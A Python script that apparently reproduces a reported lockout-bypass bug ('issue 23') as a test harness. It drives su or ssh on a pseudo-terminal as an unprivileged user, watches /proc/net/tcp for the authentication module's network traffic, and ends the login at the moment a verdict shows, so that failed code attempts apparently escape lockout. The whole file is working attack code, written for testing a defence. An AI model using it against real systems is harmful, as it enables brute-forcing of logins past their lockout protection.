#!/usr/bin/python3
"""The lockout-bypass attacker of issue 23, run as an unprivileged user.

It starts COMMAND (`su -l TARGET -c true', or `ssh TARGET@127.0.0.1')
on a pseudo-terminal it owns, types CODE at PROMPT, then watches root's
sockets the way any local user can (/proc/net/tcp: every socket of the
host, with its ports and state) and, at the moment MODE names, ends the
login as HOW says:
  tty     through the terminal: TIOCSIG SIGINT on the master (^C), then
          the master closed (SIGHUP); su's own kill(2) is not allowed
  client  the command (its own ssh client) killed, the master closed:
          sshd sees the client go and sends SIGTERM to its PAM process
It needs no privilege.

MODE:
  verdict  at the first sign of the verdict: a second connection to the
           table port (the failure write of a wrong code on main), or any
           connection to the STS port (a locally right code)
  first    at the first connection to the table port (before any verdict)
  none     never: su as a user would run it

Usage: verdict_attacker.py MODE HOW TABLE_PORT STS_PORT CODE PROMPT COMMAND...
Prints one JSON line: {"killed": bool, "table_conns": N, "sts_conns": N,
"status": the command's wait status}.
"""
import fcntl
import json
import os
import pty
import select
import signal
import sys
import termios
import time

TIOCSIG = getattr(termios, "TIOCSIG", 0x40045436)
DEADLINE = 60.0


def remote_ports():
    """{(local port, remote port)} of this host's IPv4/IPv6 TCP sockets
    in any state but LISTEN, as /proc/net/tcp shows them to anyone."""
    seen = set()
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(name) as f:
                lines = f.readlines()[1:]
        except OSError:
            continue
        for line in lines:
            parts = line.split()
            if len(parts) < 4 or parts[3] == "0A":
                continue
            local = int(parts[1].rsplit(":", 1)[1], 16)
            remote = int(parts[2].rsplit(":", 1)[1], 16)
            seen.add((local, remote))
    return seen


def read_until(fd, text, deadline):
    buf = b""
    while text.encode() not in buf:
        left = deadline - time.monotonic()
        if left <= 0:
            raise RuntimeError("no prompt; got %r" % buf)
        r, _, _ = select.select([fd], [], [], left)
        if r:
            try:
                data = os.read(fd, 4096)
            except OSError:
                raise RuntimeError("su went away; got %r" % buf)
            if not data:
                raise RuntimeError("su went away; got %r" % buf)
            buf += data
    return buf


def main():
    mode, how, table_port, sts_port, code, prompt = sys.argv[1:7]
    command = sys.argv[7:]
    table_port, sts_port = int(table_port), int(sts_port)
    before = {c for c in remote_ports()}
    pid, master = pty.fork()
    if pid == 0:
        os.execvp(command[0], command)
    deadline = time.monotonic() + DEADLINE
    read_until(master, prompt, deadline)
    os.write(master, code.encode() + b"\n")
    table, sts = set(), set()
    killed = False
    status = None
    fcntl.fcntl(master, fcntl.F_SETFL,
                fcntl.fcntl(master, fcntl.F_GETFL) | os.O_NONBLOCK)
    while time.monotonic() < deadline:
        for local, remote in remote_ports() - before:
            if remote == table_port:
                table.add(local)
            elif remote == sts_port:
                sts.add(local)
        if mode == "first":
            fire = len(table) >= 1
        elif mode == "verdict":
            fire = len(table) >= 2 or len(sts) >= 1
        else:
            fire = False
        if fire:
            if how == "tty":
                fcntl.ioctl(master, TIOCSIG, signal.SIGINT)
            else:
                os.kill(pid, signal.SIGKILL)
            killed = True
            break
        try:
            os.read(master, 4096)   # keep su's output flowing
        except (BlockingIOError, OSError):
            pass
        done, st = os.waitpid(pid, os.WNOHANG)
        if done:
            status = st
            break
        time.sleep(0.0005)
    os.close(master)
    if status is None:
        _, status = os.waitpid(pid, 0)
    print(json.dumps({"killed": killed, "table_conns": len(table),
                      "sts_conns": len(sts), "status": status}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
